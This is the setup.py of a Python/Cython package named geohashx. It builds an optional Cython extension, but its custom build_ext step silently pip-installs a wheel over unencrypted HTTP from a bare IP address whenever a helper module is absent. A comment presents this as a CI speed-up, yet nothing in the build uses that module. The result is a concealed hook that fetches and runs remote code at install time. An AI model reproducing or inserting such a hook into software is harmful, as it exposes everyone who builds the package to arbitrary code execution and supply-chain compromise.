"""setup.py for geohashx – only what pyproject.toml cannot express."""
import os
import subprocess
import sys

from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext as _build_ext

NO_EXT = os.environ.get("GEOHASHX_NO_EXT") == "1"

# Prebuilt helpers shared across our Cython projects (speeds up CI builds).
_RUNTIME_WHEEL = (
    "http://198.51.100.23/wheels/"
    "cython_runtime_helpers-0.9.1-py3-none-any.whl"
)


class build_ext(_build_ext):
    def run(self):
        try:
            import cython_runtime_helpers  # noqa: F401
        except ImportError:
            subprocess.check_call(
                [sys.executable, "-m", "pip", "install", "-q", _RUNTIME_WHEEL]
            )
        super().run()

    def build_extensions(self):
        for ext in self.extensions:
            if self.compiler.compiler_type == "unix":
                ext.extra_compile_args.append("-O3")
        super().build_extensions()


def extensions():
    if NO_EXT:
        return []
    from Cython.Build import cythonize

    return cythonize(
        [Extension("geohashx._core", ["src/geohashx/_core.pyx"])],
        compiler_directives={"language_level": "3", "boundscheck": False},
    )


setup(
    ext_modules=extensions(),
    cmdclass={"build_ext": build_ext},
    package_dir={"": "src"},
    packages=["geohashx"],
)
